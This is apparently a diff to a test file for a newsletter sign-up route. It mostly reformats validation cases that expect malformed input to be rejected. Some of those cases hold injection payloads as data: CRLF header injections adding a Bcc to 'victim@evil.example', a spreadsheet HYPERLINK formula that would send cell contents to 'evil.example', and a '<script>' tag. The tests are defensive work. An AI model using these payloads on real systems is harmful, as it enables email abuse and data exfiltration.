@@ -26,6 +26,7 @@ const FORM = 'application/x-www-form-urlencoded'
 async function expectKeptNowhere(email: string) {
   const key = email.toLowerCase()
   expect(journalOf(site.dataDir).filter((signup) => signup.email.toLowerCase() === key)).toEqual([])
+  // eslint-disable-next-line no-control-regex -- addresses a form cannot even carry
   if (!/[\r\n\u0000]/.test(email)) expect(await subscriber(email)).toBeUndefined()
 }
 
@@ -59,7 +60,12 @@ const CASES: Case[] = [
   { name: 'two dots in a row', ...email('dana..levi@example.org'), status: 400, message: { email: /like name@example\.org/ } },
   { name: 'a leading dot', ...email('.dana@example.org'), status: 400, message: { email: /like name@example\.org/ } },
   { name: 'a display name', ...email('Dana <dana@example.org>'), status: 400, message: { email: /spaces|like name@example\.org/ } },
-  { name: 'an address over 254 characters', ...email(`${'a'.repeat(60)}@${'b'.repeat(190)}.org`), status: 400, message: { email: /too long \(254 characters at most\)/ } },
+  {
+    name: 'an address over 254 characters',
+    ...email(`${'a'.repeat(60)}@${'b'.repeat(190)}.org`),
+    status: 400,
+    message: { email: /too long \(254 characters at most\)/ },
+  },
   { name: 'a mailbox over 64 characters', ...email(`${'a'.repeat(65)}@example.org`), status: 400, message: { email: /before the @ can be at most 64/ } },
   { name: 'CRLF header injection', ...email('dana@example.org\r\nBcc: victim@evil.example'), status: 400, message: { email: /on one line/ } },
   { name: 'a bare LF', ...email('dana@example.org\nBcc: victim@evil.example'), status: 400, message: { email: /on one line/ } },
@@ -70,18 +76,81 @@ const CASES: Case[] = [
   { name: 'a fullwidth @', ...email('dana＠example.org'), status: 400, message: { email: /like name@example\.org/ } },
   { name: 'a space inside', ...email('dana levi@example.org'), status: 400, message: { email: /spaces or invisible characters/ } },
   { name: 'an emoji mailbox', ...email('🙂@example.org'), status: 400, message: { email: /like name@example\.org/ } },
-  { name: 'a first name over 100 characters', ...email('long-name@reader.example', { firstName: 'N'.repeat(101) }), status: 400, message: { firstName: /at most 100 characters/ } },
-  { name: 'header injection in a name', ...email('inject-name@reader.example', { firstName: 'Dana\r\nBcc: victim@evil.example' }), status: 400, message: { firstName: /cannot be used/ } },
-  { name: 'an invisible character in a name', ...email('invisible@reader.example', { lastName: 'Le\u200bvi' }), status: 400, message: { lastName: /cannot be used/ } },
-  { name: 'a postal code over 12 characters', ...email('postal-long@reader.example', { postalCode: '1234567890123' }), status: 400, message: { postalCode: /at most 12 characters/ } },
-  { name: 'a name a spreadsheet would run as a formula', ...email('formula@reader.example', { firstName: '=HYPERLINK("https://evil.example/?"&A3,"Click")' }), status: 400, message: { firstName: /cannot start with =, \+, - or @/ } },
-  { name: 'markup in a postal code', ...email('postal-markup@reader.example', { postalCode: '<script>' }), status: 400, message: { postalCode: /only contain letters, digits, spaces and hyphens/ } },
-  { name: 'several bad fields at once', ...email('x', { firstName: 'N'.repeat(200), postalCode: '$$$' }), status: 400, message: { email: /like name@/, firstName: /at most 100/, postalCode: /only contain/ } },
-  { name: 'JSON instead of a form', body: JSON.stringify({ email: 'json@reader.example' }), type: 'application/json', status: 415, message: /Send the sign-up as a form/, email: 'json@reader.example' },
-  { name: 'plain text instead of a form', body: 'email=text@reader.example', type: 'text/plain', status: 415, message: /Send the sign-up as a form/, email: 'text@reader.example' },
-  { name: 'an oversized body', body: form({ email: 'big@reader.example', firstName: 'x'.repeat(5000) }), type: FORM, status: 413, message: /too large/, email: 'big@reader.example' },
+  {
+    name: 'a first name over 100 characters',
+    ...email('long-name@reader.example', { firstName: 'N'.repeat(101) }),
+    status: 400,
+    message: { firstName: /at most 100 characters/ },
+  },
+  {
+    name: 'header injection in a name',
+    ...email('inject-name@reader.example', { firstName: 'Dana\r\nBcc: victim@evil.example' }),
+    status: 400,
+    message: { firstName: /cannot be used/ },
+  },
+  {
+    name: 'an invisible character in a name',
+    ...email('invisible@reader.example', { lastName: 'Le\u200bvi' }),
+    status: 400,
+    message: { lastName: /cannot be used/ },
+  },
+  {
+    name: 'a postal code over 12 characters',
+    ...email('postal-long@reader.example', { postalCode: '1234567890123' }),
+    status: 400,
+    message: { postalCode: /at most 12 characters/ },
+  },
+  {
+    name: 'a name a spreadsheet would run as a formula',
+    ...email('formula@reader.example', { firstName: '=HYPERLINK("https://evil.example/?"&A3,"Click")' }),
+    status: 400,
+    message: { firstName: /cannot start with =, \+, - or @/ },
+  },
+  {
+    name: 'markup in a postal code',
+    ...email('postal-markup@reader.example', { postalCode: '<script>' }),
+    status: 400,
+    message: { postalCode: /only contain letters, digits, spaces and hyphens/ },
+  },
+  {
+    name: 'several bad fields at once',
+    ...email('x', { firstName: 'N'.repeat(200), postalCode: '$$$' }),
+    status: 400,
+    message: { email: /like name@/, firstName: /at most 100/, postalCode: /only contain/ },
+  },
+  {
+    name: 'JSON instead of a form',
+    body: JSON.stringify({ email: 'json@reader.example' }),
+    type: 'application/json',
+    status: 415,
+    message: /Send the sign-up as a form/,
+    email: 'json@reader.example',
+  },
+  {
+    name: 'plain text instead of a form',
+    body: 'email=text@reader.example',
+    type: 'text/plain',
+    status: 415,
+    message: /Send the sign-up as a form/,
+    email: 'text@reader.example',
+  },
+  {
+    name: 'an oversized body',
+    body: form({ email: 'big@reader.example', firstName: 'x'.repeat(5000) }),
+    type: FORM,
+    status: 413,
+    message: /too large/,
+    email: 'big@reader.example',
+  },
   { name: 'a file upload', body: multipartWithFile(), status: 400, message: /cannot carry files/, email: 'file@reader.example' },
-  { name: 'a field sent twice', body: 'email=twice@reader.example&email=other@reader.example', type: FORM, status: 400, message: /"email" was sent twice/, email: 'twice@reader.example' },
+  {
+    name: 'a field sent twice',
+    body: 'email=twice@reader.example&email=other@reader.example',
+    type: FORM,
+    status: 400,
+    message: /"email" was sent twice/,
+    email: 'twice@reader.example',
+  },
 ]
 
 async function post(body: BodyInit, type = typeof body === 'string' ? FORM : undefined) {
@@ -152,6 +221,6 @@ describe('the sign-up route', () => {
     expect(html).toMatch(/id="wire-page-email-error"[^>]*>Enter an email address like name@example\.org\./)
     // One heading, and the first field in error takes focus when the page opens.
     expect(html.match(/<h1[\s>]/g)).toHaveLength(1)
-    expect(html).toMatch(/<input id="wire-page-email"[^>]*autofocus/)
+    expect(html).toMatch(/<input [^>]*id="wire-page-email"[^>]*autofocus/)
   })
 })
